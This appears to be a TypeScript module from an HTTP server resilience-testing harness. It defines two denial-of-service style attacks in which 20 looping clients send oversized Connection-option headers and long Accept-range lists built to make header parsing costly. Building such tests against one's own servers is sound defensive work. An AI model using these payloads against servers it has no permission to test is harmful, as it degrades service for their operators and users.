/** Heads that are dear to read: many options of Connection beside many headers, many ranges of Accept for an error page. */
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Target } from '../attack.ts';
import { several } from '../raw.ts';

const clients = 20;

/** Each client asks, waits for the answer and asks again, until the window is over. */
async function again({ port, over }: Target, head: string): Promise<void> {
  const asking = Array.from({ length: clients }, async () => {
    while (!over.aborted) {
      // A balancer that refuses such a head may close.
      const [one] = several(1, port);
      while (!over.aborted && one!.isOpen) {
        one!.send(head);
        await Promise.race([one!.answered(), sleep(1000)]);
        await sleep(20);
      }
      one!.close();
      await sleep(20);
    }
  });
  await Promise.all(asking);
}

/** Words of two characters, `bytes` in all, each other than the others as long as there are some. */
function words(bytes: number): string {
  const letters = 'abcdefghijklmnopqrstuvwxyz0123456789';
  const count = Math.floor(bytes / 3);
  const word = (n: number) => `${letters[n % 36]}${letters[Math.floor(n / 36) % 36]}`;
  return Array.from({ length: count }, (_, n) => word(n)).join(',');
}

export const connectionOptions: Attack = {
  name: 'connection-options',
  title: '20 clients with 14 KB of Connection options beside 80 headers',
  async run(target) {
    const headers = Array.from({ length: 80 }, (_, n) => `X${n}: 1\r\n`).join('');
    await again(target, `GET / HTTP/1.1\r\nHost: abuse.example\r\nConnection: ${words(13_000)}\r\n${headers}\r\n`);
    return { attackers: 0 };
  },
};

export const acceptBombs: Attack = {
  name: 'accept-bombs',
  title: '20 clients with 14 KB of Accept for an error page',
  needs: { deadPools: true },
  async run(target) {
    const ranges = 'text/x;q=0.1,'.repeat(1000);
    await again(target, `GET /refused HTTP/1.1\r\nHost: abuse.example\r\nAccept: ${ranges}*/*;q=0\r\n\r\n`);
    return { attackers: 0 };
  },
};
